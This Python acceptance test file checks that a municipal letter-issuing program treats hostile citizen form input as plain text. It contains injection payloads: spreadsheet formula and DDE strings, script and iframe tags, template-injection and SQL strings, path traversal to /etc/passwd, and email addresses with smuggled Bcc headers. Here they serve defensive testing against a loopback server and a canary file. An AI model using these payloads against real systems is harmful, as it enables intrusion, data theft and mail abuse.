"""Hostile citizens: what they type is data, in every kind of question and wherever it is shown afterwards.

The real program, the real clients; a web server on this machine must not be asked for anything, and a file with a
canary in it must not turn up anywhere.
"""

import email
import email.policy
import html
import json
import re
import time
from collections.abc import Iterator
from dataclasses import dataclass, replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import requests

from tests.acceptance.audit import drive_files
from tests.acceptance.conftest import Office, an_office, loket
from tests.fakes.loopback_http import LoopbackServer
from tests.unit.letter.orders import text_of

NIK, KK = "6402014101900001", "6402011203150007"
CANARY = "burung-kenari-di-tambang"
QUESTIONS = {
    "Nama Lengkap": "text",
    "Alamat Email": "text",
    "NIK": "text",
    "Nomor KK": "text",
    "NIP": "text",
    "Nomor HP": "text",
    "Email Lain": "text",
    "Tanggal Lahir": "text",
    "Jam": "text",
    "Jumlah": "text",
    "Penghasilan": "text",
    "Agama": "text",
    "Keperluan": "text",
    "Foto": "text",
    "Pekerjaan": "text",
    "Alamat": "paragraph",
}
WORKFLOW = """
title: Surat Keterangan Domisili
prefix: SKD
sheet: {spreadsheetId}
tab: {tab}
applicant: {{name: Nama Lengkap, email: Alamat Email}}
fields:
  nik: {{question: NIK, type: nik}}
  kk: {{question: Nomor KK, type: kk, required: false}}
  nip: {{question: NIP, type: nip, required: false}}
  hp: {{question: Nomor HP, type: phone, required: false}}
  email_lain: {{question: Email Lain, type: email, required: false}}
  lahir: {{question: Tanggal Lahir, type: date, required: false}}
  jam: {{question: Jam, type: time, required: false}}
  jumlah: {{question: Jumlah, type: number, required: false}}
  penghasilan: {{question: Penghasilan, type: money, required: false}}
  agama: {{question: Agama, type: choice, options: [Islam, Kristen], required: false}}
  keperluan: {{question: Keperluan, type: choices, options: [Bank, Sekolah], required: false}}
  foto: {{question: Foto, type: file, required: false}}
  pekerjaan: {{question: Pekerjaan, type: text, required: false}}
  alamat: {{question: Alamat, type: paragraph, required: false}}
letter:
  template: letters/uji.html
  number: "470/{{{{ serial|pad(4) }}}}/DKPS/{{{{ tahun }}}}"
  file: "SKD {{{{ nama }}}} {{{{ pekerjaan }}}} {{{{ nik }}}}"
deliver: [email, drive]
"""
TYPED = list(QUESTIONS)[2:14]
"""The questions that something definite belongs into."""
LETTER = """<!doctype html><html lang="id"><head><title>Uji</title></head><body><p>Nomor {{ nomor }}</p>
<p>[{{ nama }}]</p><p>[{{ pekerjaan }}]</p><p>[{{ alamat }}]</p></body></html>
"""


@dataclass(frozen=True)
class World:
    office: Office
    web: LoopbackServer
    canary: Path

    def answers(self, number: int, **other: str) -> dict[str, str]:
        nik = f"{NIK[:12]}{number + 1:04d}"
        known = {"Nama Lengkap": f"Citra {chr(65 + number)}", "NIK": nik}
        known["Alamat Email"] = f"citra{number}@example.org"
        return {**known, **{key.replace("_", " "): text for key, text in other.items()}}

    def sends(self, answers: dict[str, str]) -> None:
        url = f"{self.office.url}/_sandbox/forms/{self.office.form['formId']}/responses"
        requests.post(url, json={"answers": answers}, timeout=30).raise_for_status()

    def approves_all(self) -> None:
        tab = self.office.tab
        header, *rows = tab.get_all_values()
        status, decision = header.index("Status"), header.index("Keputusan")
        for number, row in enumerate(rows, start=2):
            if row[status] == "Menunggu petugas":
                tab.update_cell(number, decision + 1, "Setujui")

    @property
    def rows(self) -> list[dict[str, str]]:
        header, *rows = self.office.tab.get_all_values()
        return [dict(zip(header, row, strict=True)) for row in rows if any(row)]

    def letters(self) -> dict[str, bytes]:
        """By reference."""
        folder = self.office.folder / "data" / "letters"
        return {file.stem: file.read_bytes() for file in folder.rglob("*.pdf")}

    def mails(self) -> "list[email.message.EmailMessage]":
        folder = self.office.folder.parent / "sandbox" / "mailbox"
        return [
            email.message_from_bytes(file.read_bytes(), policy=email.policy.default)  # type: ignore[misc]
            for file in sorted(folder.glob("*.eml"))
        ]

    def log(self) -> str:
        folder = self.office.folder / "data" / "log"
        return "".join(file.read_text(encoding="utf-8") for file in folder.glob("*"))


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    web = LoopbackServer()
    canary = tmp_path / "rahasia.txt"
    canary.write_text(CANARY, encoding="utf-8")
    with an_office(tmp_path) as office:
        form = requests.post(
            f"{office.url}/_sandbox/forms",
            json={
                "title": "Semua Jenis",
                "questions": [{"title": t, "type": kind} for t, kind in QUESTIONS.items()],
            },
            timeout=30,
        ).json()
        folder = office.folder
        (folder / "workflows" / "domisili.yaml").write_text(WORKFLOW.format(**form), "utf-8")
        (folder / "templates" / "letters" / "uji.html").write_text(LETTER, encoding="utf-8")
        yield World(replace(office, form=form), web, canary)
    web.close()


def hostile(world: World) -> dict[str, str]:
    """What a citizen may type, by its kind."""
    url, file = f"{world.web.url}/", world.canary.as_uri()
    return {
        "formula": f'=IMPORTXML("{url}x","//a")',
        "link": f'=HYPERLINK("{url}","klik di sini")',
        "sum": "=1+1",
        "plus": "+1+1",
        "minus": "-2+3",
        "at": "@SUM(1,1)",
        "dde": "=cmd|' /C calc'!A0",
        "script": f"<script src={url}x.js></script><img src=x onerror=alert(1)>",
        "image": f'<img src="{url}x.png"><img src="{file}">',
        "frame": f'"><iframe src="{file}"></iframe>',
        "style": f"</style><style>@import url({url}x.css); body {{ background: url({file}) }}</style>",
        "svg": f'<svg><image href="{file}"/><use href="{url}x#a"/></svg>',
        "close": "</p></body></html><!-- ]]> -->",
        "entities": "&lt;b&gt; &amp; &#60; &nbsp;",
        "template": "{{ 7*7 }} {% include 'settings.yaml' %} {# x #}",
        "escape": "{{ ''.__class__.__mro__[1].__subclasses__() }} ${7*7} #{7*7} <%= 7*7 %>",
        "path": "../../../../etc/passwd",
        "windows": "CON.pdf C:\\Windows\\x:y*?|<>",
        "sql": "'; DROP TABLE applications; --",
        "markup": "[bold red]merah[/] [link=file:///etc/passwd]x[/link]",
        "url": "https://jahat.example/ klik",
        "option": "--enable-local-file-access -o /tmp/x",
    }


def shown(text: str) -> str:
    return "".join(text.split())


class Page(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.loads: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.loads += [value or "" for name, value in attrs if name in ("src", "href", "onerror")]


@pytest.mark.timeout(240)
def test_what_citizens_type_stays_text_wherever_it_is_shown(world: World) -> None:
    """In the sheet, the letter, the email, the file's name, on the screen and in the log."""
    typed = hostile(world)
    for number, text in enumerate(typed.values()):
        # A name longer than 100 letters is for the applicant to mend, so it carries the short ones only.
        name = f"Citra {text}" if len(text) < 60 else f"Citra {chr(65 + number)}"
        world.sends(world.answers(number, Pekerjaan=text, Alamat=text) | {"Nama Lengkap": name})
    world.office.run_once()
    world.approves_all()
    done = world.office.run_once()
    rows = world.rows
    assert {row["Status"] for row in rows} == {"Selesai"}, [row["Keterangan"] for row in rows]

    letters, texts = world.letters(), list(typed.values())
    assert len(letters) == len(texts)
    for row in rows:
        text = row["Alamat"]
        assert text in texts
        printed = shown(text_of(letters[row["No. Permohonan"]]))
        assert (
            printed.count(f"[{shown(text)}]") == 2
        )  # as typed, and twice: nothing swallowed a part
        assert f"[{shown(row['Nama Lengkap'])}]" in printed
        assert CANARY not in printed

    mails = world.mails()
    with_letter = [mail for mail in mails if list(mail.iter_attachments())]
    assert len(with_letter) == len(texts)
    for mail in with_letter:
        assert len(mail.get_all("To") or []) == 1
        assert not mail["Bcc"]
        body = mail.get_body(("html",))
        assert body is not None
        page = Page(body.get_content())
        assert not page.tags & {"script", "iframe", "img", "svg", "object", "link", "form"}
        assert not any(world.web.url in one or "file:" in one for one in page.loads)
        [attachment] = mail.iter_attachments()
        file_name = attachment.get_filename() or ""
        assert re.fullmatch(r'[^<>:"/\\|?*\x00-\x1f]{1,120}\.pdf', file_name), file_name
        assert not file_name.startswith(".")

    for file in drive_files(world.office):
        assert len(file["readers"]) >= 1
        assert "anyone" not in file["readers"]
    assert world.web.asked == []
    told = done.stdout + done.stderr + world.log() + status_of(world)
    assert CANARY not in told
    assert_no_number(told)


def status_of(world: World) -> str:
    """What every verb that looks says about all this."""
    root, said = ("--root", str(world.office.folder)), ""
    for verb in (["status"], ["status", "--json"], *(["show", r] for r in references(world)[:6])):
        done = loket(*root, *verb)
        assert done.returncode == 0, done.stderr
        said += done.stdout + done.stderr
    return said


def references(world: World) -> list[str]:
    return [row["No. Permohonan"] for row in world.rows]


def assert_no_number(text: str) -> None:
    """No NIK and no KK number in clear, however it is grouped."""
    found = re.findall(r"(?<!\d)(?:\d[\s.\-]?){15}\d", text)
    assert [one for one in found if shown(one).startswith(("6402", "3201"))] == []


def cells_of(world: World) -> list[dict[str, Any]]:
    """Every cell of the sheet with what was entered into it."""
    sheet = world.office.tab.spreadsheet
    fields = "sheets.data.rowData.values(userEnteredValue,hyperlink)"
    found = sheet.fetch_sheet_metadata({"includeGridData": "true", "fields": fields})
    return [
        cell
        for tab in found["sheets"]
        for data in tab.get("data", [])
        for row in data.get("rowData", [])
        for cell in row.get("values", [])
    ]


@pytest.mark.timeout(240)
def test_no_cell_becomes_a_formula_in_any_column(world: World) -> None:
    """Each hostile text as the answer to each kind of question: the applicant is asked to mend it, in text alone."""
    for number, text in enumerate(hostile(world).values()):
        wrong = dict.fromkeys(TYPED, text)
        world.sends(world.answers(number, Pekerjaan=text, Alamat=text) | wrong)
    done = world.office.run_once()
    rows = world.rows
    assert {row["Status"] for row in rows} == {"Perlu perbaikan"}
    assert not any("formulaValue" in cell.get("userEnteredValue", {}) for cell in cells_of(world))
    assert "Traceback" not in done.stderr
    for mail in world.mails():
        body = mail.get_body(("html",))
        if body is None:
            continue
        page = Page(body.get_content())
        assert not page.tags & {"script", "iframe", "img", "svg", "object", "link", "form"}
        assert world.web.url not in html.unescape(body.get_content())
    assert world.web.asked == []
    # The watch itself: an officer's own formula is one.
    world.office.tab.update([["=1+1"]], "Z1", raw=False)
    assert any("formulaValue" in cell.get("userEnteredValue", {}) for cell in cells_of(world))


@pytest.mark.parametrize(
    "address",
    [
        "citra@example.org\nBcc: doni@example.org",
        "citra@example.org\r\n\r\nhalo",
        "citra@example.org, doni@example.org",
        "citra@example.org; doni@example.org",
        '"Citra" <citra@example.org>, doni@example.org',
        "doni@example.org@example.org",
        "citra@example.org\x00doni@example.org",
        "@example.org,@x:citra@example.org",
        "citra@example.org?bcc=doni@example.org",
    ],
)
def test_an_address_is_one_address_and_no_header(world: World, address: str) -> None:
    """Whoever writes a second address into the answer gets no letter sent there."""
    world.sends(world.answers(1) | {"Alamat Email": address})
    name = "Citra\r\nBcc: doni@example.org\r\nX-Jahat: 1"
    world.sends(world.answers(2) | {"Nama Lengkap": name})
    world.office.run_once()
    world.approves_all()
    world.office.run_once()
    for mail in world.mails():
        assert "doni" not in str(mail["To"])
        assert not mail["Bcc"]
        assert not mail["X-Jahat"]
        assert len(mail.get_all("Subject") or []) == 1
    assert not any("doni@example.org" in file["readers"] for file in drive_files(world.office))
    [good] = [row for row in world.rows if row["Alamat Email"] == "citra2@example.org"]
    assert good["Status"] == "Selesai"


@pytest.mark.timeout(240)
def test_unseen_characters_emoji_and_endless_answers_stop_nobody(world: World) -> None:
    """A letter shows what the officer read, or the applicant is told; Doni in the next row gets his."""
    odd = {
        "turned round": "Jalan \u202egnaneK\u202c \u2066Satu\u2069",
        "zero width": "Jl\u200b. Ke\u200dnanga\ufeff 7",
        "null": "Jalan \x00\x01\x07\x1b[31m Kenanga",
        "emoji": "Jalan 😀 Kenanga",
        "combining": "Z" + "\u0351" * 400,
        "endless": "Kenanga " * 6_200,
        "lines": "x\n" * 4_000,
        "half": "Jalan \udcff Kenanga".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
        "number": "9" * 400,
    }
    for number, text in enumerate(odd.values()):
        world.sends(world.answers(number, Alamat=text))
    world.sends(world.answers(99) | {"Nama Lengkap": "Doni Pratama"})
    world.office.run_once()
    world.approves_all()
    done = world.office.run_once()
    rows = {row["NIK"]: row for row in world.rows}
    assert rows[world.answers(99)["NIK"]]["Status"] == "Selesai"
    ends = {row["Status"] for row in rows.values()}
    assert ends <= {"Selesai", "Perlu perbaikan", "Gagal kirim"}
    assert all(len(row["Keterangan"]) < 2_000 for row in rows.values())
    first = rows[world.answers(0)["NIK"]]["No. Permohonan"]
    assert "Jalan gnaneK Satu" in " ".join(text_of(world.letters()[first]).split())
    for letter in world.letters().values():
        assert not set(text_of(letter)) & set("\u202e\u202c\u2066\u200b\u200d")
    assert "\x1b[31m" not in done.stderr + world.log() + status_of(world)


def test_a_nik_is_nowhere_but_in_the_sheet_and_the_letter(world: World) -> None:
    """Typed into every wrong place, and with a program that breaks over it: no log, screen, mail or name has it."""
    grouped = f"{NIK[:4]} {NIK[4:8]} {NIK[8:12]} {NIK[12:]}"
    world.sends(world.answers(1) | {"Nama Lengkap": f"Citra {NIK}", "Pekerjaan": grouped})
    world.sends(world.answers(2) | dict.fromkeys(TYPED, f"{NIK}9 dan {KK}"))
    world.sends(world.answers(3) | {"Alamat Email": f"{NIK}@example.org", "Pekerjaan": KK})
    said = world.office.run_once().stderr
    world.approves_all()
    said += world.office.run_once().stderr
    letter = world.office.folder / "templates" / "letters" / "uji.html"
    letter.write_text(LETTER + "{{ pekerjaan + 1 }}", encoding="utf-8")
    world.sends(world.answers(4) | {"Pekerjaan": NIK})
    said += world.office.run_once().stderr
    world.approves_all()
    said += world.office.run_once().stderr
    said += loket("--root", str(world.office.folder), "show", NIK).stderr
    assert_no_number(said + world.log() + status_of(world))
    for row in world.rows:
        assert_no_number(row["Keterangan"] + row["Dokumen"] + row["No. Permohonan"])
    for mail in world.mails():
        assert_no_number(str(mail["Subject"]))
        for part in mail.walk():
            assert_no_number(part.get_filename() or "")
            if part.get_content_type() in ("text/plain", "text/html"):
                assert_no_number(part.get_content())
    asked = requests.get(f"{world.office.url}/_sandbox/requests", timeout=10).text
    assert_no_number(asked)
    folder = world.office.folder / "data" / "letters"
    assert_no_number(" ".join(path.name for path in folder.rglob("*")))


def test_a_flood_of_one_sender_is_registered_told_and_cheap(world: World) -> None:
    """A hundred responses at once: every one has its reference, the officer is warned, ten emails leave."""
    for number in range(100):
        answers = world.answers(number) | {"Alamat Email": "banjir@example.org"}
        world.sends(answers | {"NIK": "123"})
    started = time.monotonic()
    world.office.run_once()
    assert time.monotonic() - started < 60
    rows = world.rows
    assert len({row["No. Permohonan"] for row in rows}) == 100
    assert len([mail for mail in world.mails() if mail["To"] == "banjir@example.org"]) == 10
    assert sum("Pemohon tidak diberi tahu" in row["Keterangan"] for row in rows) == 90
    calls = requests.get(f"{world.office.url}/_sandbox/requests", timeout=10).json()["methods"]
    assert sum(each["calls"] for name, each in calls.items() if "sheets" in name) < 30, json.dumps(
        calls
    )
